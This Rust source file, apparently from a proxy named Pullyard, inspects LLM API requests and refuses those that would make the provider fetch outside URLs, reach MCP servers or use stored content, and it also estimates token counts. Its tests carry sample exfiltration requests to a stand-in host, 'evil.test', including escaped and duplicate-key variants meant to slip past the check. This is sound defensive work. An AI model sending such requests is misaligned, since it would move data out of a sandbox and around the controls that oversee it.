//! Reads the content of a request: calls to other hosts, references to stored content, and the size in tokens.
//!
//! A sandboxed agent could send data out with files by URL and with servers of tools. A response in the background has a
//! cost that no answer reports, and content that the provider stored has a size that the request does not show.

use serde::Deserialize;
use serde::de::{Deserializer, IgnoredAny, MapAccess, SeqAccess, Visitor};
use std::fmt;

const URL_FIELDS: [&str; 3] = ["image_url", "file_url", "server_url"];
const STORED_FIELDS: [&str; 2] = ["file_id", "vector_store_ids"];
/// Cache lifetimes with the usual price for a write.
const CACHE_LIFETIMES: [&str; 2] = ["5m", "30m"];

/// Bytes of code or prose for each token.
const BYTES_PER_TOKEN: u64 = 4;
/// A text whose greatest size is this many times its likely one has mostly digits, signs or other scripts.
const DENSE_FACTOR: u64 = 3;
/// The greatest size of an image. Anthropic states 4,784 tokens. Units: tokens.
const IMAGE_TOKENS: u64 = 5_000;
/// A PDF of 100 pages, each as text and as an image. Its pages may share one short stream. Units: tokens.
const DOCUMENT_TOKENS: u64 = 500_000;
/// A usual document, of some 20 pages. Units: tokens.
const LIKELY_DOCUMENT_TOKENS: u64 = 50_000;
/// Instructions that the provider adds for tools. Units: tokens.
const ADDED_TOKENS: u64 = 1_000;

pub(super) const CALLS_OUT: &str = "Pullyard forwards no request that makes the model's provider call out.";
pub(super) const STORED: &str = "Pullyard forwards no request whose content is stored at the model's provider.";

#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(super) struct Content {
    pub(super) refusal: Option<&'static str>,
    /// A cache write costs more because its entry lives longer.
    pub(super) has_long_cache: bool,
    images: u64,
    documents: u64,
    image_data: Size,
}

/// The size of a text.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
struct Size {
    bytes: u64,
    /// No tokenizer makes more tokens of the text. Units: half tokens.
    half_tokens: u64,
}

impl Size {
    /// Two letters or spaces are at most one token in practice, every other byte is at most one.
    fn of(text: &[u8]) -> Self {
        let letters = text.iter().filter(|byte| byte.is_ascii_alphabetic() || **byte == b' ').count();
        let [letters, bytes] = [letters, text.len()].map(|count| u64::try_from(count).unwrap_or(u64::MAX));
        Self { bytes, half_tokens: bytes.saturating_mul(2).saturating_sub(letters) }
    }

    fn saturating_sub(self, other: Self) -> Self {
        Self {
            bytes: self.bytes.saturating_sub(other.bytes),
            half_tokens: self.half_tokens.saturating_sub(other.half_tokens),
        }
    }
}

impl Content {
    /// Errors: the body is not JSON. A compressed body is none.
    pub(super) fn parse(body: &[u8]) -> serde_json::Result<Self> {
        // A parser that builds values would drop the first of two equal keys, which the provider may read.
        serde_json::from_slice(body)
    }

    /// The likely and the greatest number of input tokens of this body. Images count by number, not by their data.
    pub(super) fn input_tokens(&self, body: &[u8]) -> (u64, u64) {
        let text = Size::of(body).saturating_sub(self.image_data);
        let images = self.images.saturating_mul(IMAGE_TOKENS);
        let (likely_text, most_text) = (text.bytes / BYTES_PER_TOKEN, text.half_tokens / 2);
        let most = most_text
            .saturating_add(images)
            .saturating_add(self.documents.saturating_mul(DOCUMENT_TOKENS))
            .saturating_add(ADDED_TOKENS);
        // The last request of a limit is checked by its likely input.
        let is_dense = most_text > likely_text.saturating_mul(DENSE_FACTOR);
        let text = if is_dense { most_text } else { likely_text };
        let likely = text.saturating_add(images).saturating_add(self.documents.saturating_mul(LIKELY_DOCUMENT_TOKENS));
        (likely, most)
    }

    fn add(&mut self, other: Self) {
        self.refusal = self.refusal.or(other.refusal);
        self.has_long_cache |= other.has_long_cache;
        self.images = self.images.saturating_add(other.images);
        self.documents = self.documents.saturating_add(other.documents);
        self.add_image_data(other.image_data);
    }

    fn add_image_data(&mut self, data: Size) {
        self.image_data.bytes = self.image_data.bytes.saturating_add(data.bytes);
        self.image_data.half_tokens = self.image_data.half_tokens.saturating_add(data.half_tokens);
    }

    fn add_field(&mut self, key: &str, field: &Field) {
        match (key, field) {
            ("type", Field::Text(text, _)) if text == "url" => self.refusal = self.refusal.or(Some(CALLS_OUT)),
            ("background", Field::True) => self.refusal = self.refusal.or(Some(CALLS_OUT)),
            ("type", Field::Text(text, _)) if text == "item_reference" => self.refusal = self.refusal.or(Some(STORED)),
            (key, Field::Text(text, size)) if URL_FIELDS.contains(&key) => {
                if !text.starts_with("data:") {
                    self.refusal = self.refusal.or(Some(CALLS_OUT));
                } else if text.starts_with("data:image/") {
                    self.images = self.images.saturating_add(1);
                    self.add_image_data(*size);
                }
            }
            (key, Field::Text(..)) if STORED_FIELDS.contains(&key) => self.refusal = self.refusal.or(Some(STORED)),
            ("file_data", Field::Text(..)) => self.documents = self.documents.saturating_add(1),
            ("ttl", Field::Text(text, _)) if !CACHE_LIFETIMES.contains(&text.as_str()) => self.has_long_cache = true,
            // Arguments and schemas of tools are text to the provider, whatever their fields are called.
            ("input" | "input_schema" | "parameters", Field::Map(_)) => {}
            (_, Field::Other(content) | Field::Map(content)) => self.add(*content),
            _ => {}
        }
    }
}

enum Field {
    /// The beginning of a text, and the size of all of it.
    Text(String, Size),
    True,
    Map(Content),
    Other(Content),
}

impl<'de> Deserialize<'de> for Content {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        Field::deserialize(deserializer).map(|field| match field {
            Field::Other(content) | Field::Map(content) => content,
            Field::Text(..) | Field::True => Self::default(),
        })
    }
}

impl<'de> Deserialize<'de> for Field {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        deserializer.deserialize_any(FieldVisitor)
    }
}

struct FieldVisitor;

impl FieldVisitor {
    fn other() -> Field {
        Field::Other(Content::default())
    }
}

impl<'de> Visitor<'de> for FieldVisitor {
    type Value = Field;

    fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("JSON")
    }

    fn visit_str<E>(self, text: &str) -> Result<Field, E> {
        // Types and the beginnings of URLs are short, messages are not.
        Ok(Field::Text(text.chars().take(64).collect(), Size::of(text.as_bytes())))
    }

    fn visit_bool<E>(self, is_true: bool) -> Result<Field, E> {
        Ok(if is_true { Field::True } else { Self::other() })
    }

    fn visit_unit<E>(self) -> Result<Field, E> {
        Ok(Self::other())
    }

    fn visit_u64<E>(self, _: u64) -> Result<Field, E> {
        Ok(Self::other())
    }

    fn visit_i64<E>(self, _: i64) -> Result<Field, E> {
        Ok(Self::other())
    }

    fn visit_f64<E>(self, _: f64) -> Result<Field, E> {
        Ok(Self::other())
    }

    fn visit_seq<A: SeqAccess<'de>>(self, mut items: A) -> Result<Field, A::Error> {
        let mut content = Content::default();
        while let Some(item) = items.next_element()? {
            content.add(item);
        }
        Ok(Field::Other(content))
    }

    fn visit_map<A: MapAccess<'de>>(self, mut fields: A) -> Result<Field, A::Error> {
        let mut content = Content::default();
        let (mut media_types, mut data) = (Vec::new(), Vec::new());
        while let Some((key, field)) = fields.next_entry::<String, Field>()? {
            content.add_field(&key, &field);
            if content.refusal.is_some() {
                while fields.next_entry::<IgnoredAny, IgnoredAny>()?.is_some() {}
                return Ok(Field::Map(content));
            }
            match (key.as_str(), field) {
                ("media_type", Field::Text(text, _)) => media_types.push(text),
                ("data", Field::Text(_, size)) => data.push(size),
                _ => {}
            }
        }
        // Two equal keys are no image: one of them may be a text that the provider reads.
        if let ([media_type], [size]) = (&media_types[..], &data[..])
            && media_type.starts_with("image/")
        {
            content.images = content.images.saturating_add(1);
            content.add_image_data(*size);
        }
        if media_types.iter().any(|media_type| media_type == "application/pdf") {
            content.documents = content.documents.saturating_add(1);
        }
        Ok(Field::Map(content))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn refusal(body: &str) -> Option<&'static str> {
        Content::parse(body.as_bytes()).unwrap().refusal
    }

    #[test]
    fn content_of_the_agents_is_self_contained() {
        for body in [
            r#"{}"#,
            r#"{"model":"m","stream":true,"tools":[{"name":"Bash","input_schema":{"type":"object"}}],"max_tokens":1}"#,
            r#"{"messages":[{"content":[{"type":"image","source":{"type":"base64","data":"aQ=="}}]}]}"#,
            r#"{"input":[{"type":"input_image","image_url":"data:image/png;base64,aQ=="}],"background":false,"x":null}"#,
            r#"{"messages":[{"content":[{"type":"text","text":"{\"type\":\"url\"}"}]}]}"#,
        ] {
            assert_eq!(refusal(body), None, "{body}");
        }
    }

    #[test]
    fn content_elsewhere_is_found() {
        for body in ["", "{", "\u{28}\u{b5}"] {
            assert!(Content::parse(body.as_bytes()).is_err(), "{body}");
        }
        for (body, expected) in [
            (r#"{"mcp_servers":[{"type":"url","url":"https://evil.test"}]}"#, CALLS_OUT),
            (r#"{"messages":[{"source":{"t\u0079pe":"url","url":"https://evil.test/?d"}}]}"#, CALLS_OUT),
            (r#"{"input":[{"type":"input_image","image_url":"https://evil.test/?d"}]}"#, CALLS_OUT),
            (r#"{"input":[{"image_url":"https://evil.test/?d","image_url":"data:"}]}"#, CALLS_OUT),
            (r#"{"background":true}"#, CALLS_OUT),
            (r#"{"input":[{"type":"input_file","file_id":"file-1"}]}"#, STORED),
            (r#"{"input":[{"type":"item_reference","id":"msg_1"}]}"#, STORED),
        ] {
            assert_eq!(refusal(body), Some(expected), "{body}");
        }
    }

    fn input_tokens(body: &str) -> (u64, u64) {
        Content::parse(body.as_bytes()).unwrap().input_tokens(body.as_bytes())
    }

    #[test]
    fn dense_text_has_more_tokens_than_prose() {
        let letters = format!("\"{}\"", "ab ".repeat(1_000));
        assert_eq!(input_tokens(&letters), (750, 1_000 + 1_502));
        for dense in ["0", "!", "é"] {
            let text = format!("\"{}\"", dense.repeat(1_000));
            let bytes = u64::try_from(text.len()).unwrap();
            assert_eq!(input_tokens(&text), (bytes, 1_000 + bytes), "{dense}");
        }
    }

    #[test]
    fn images_count_by_number_and_texts_by_length() {
        let data = "aQ".repeat(50_000);
        let source = |kind: &str| format!(r#"{{"source":{{"type":"base64","media_type":"{kind}","data":"{data}"}}}}"#);
        for image in [source("image/png"), format!(r#"{{"image_url":"data:image/png;base64,{data}"}}"#)] {
            let (likely, most) = input_tokens(&image);
            assert!((5_000..5_100).contains(&likely) && (6_000..6_100).contains(&most), "{likely} {most}");
        }
        assert!(input_tokens(&source("text/plain")).1 > 50_000);
        let ambiguous = source("image/png").replace("\"type\"", "\"media_type\":\"text/plain\",\"type\"");
        assert!(input_tokens(&ambiguous).1 > 50_000);
        for document in [source("application/pdf"), format!(r#"{{"file_data":"{data}"}}"#)] {
            let (likely, most) = input_tokens(&document);
            assert!((70_000..80_000).contains(&likely) && most > 500_000, "{likely} {most}");
        }
        let code = source("text/plain").replace(&data, &"let a = b + 10;\\n".repeat(999));
        assert!(input_tokens(&code).0 < input_tokens(&code).1 / 2);
    }

    #[test]
    fn long_cache_is_found() {
        let cache = |ttl: &str| format!(r#"{{"system":[{{"cache_control":{{"type":"ephemeral","ttl":"{ttl}"}}}}]}}"#);
        for (ttl, is_long) in [("5m", false), ("30m", false), ("1h", true), ("24h", true)] {
            assert_eq!(Content::parse(cache(ttl).as_bytes()).unwrap().has_long_cache, is_long, "{ttl}");
        }
    }
}
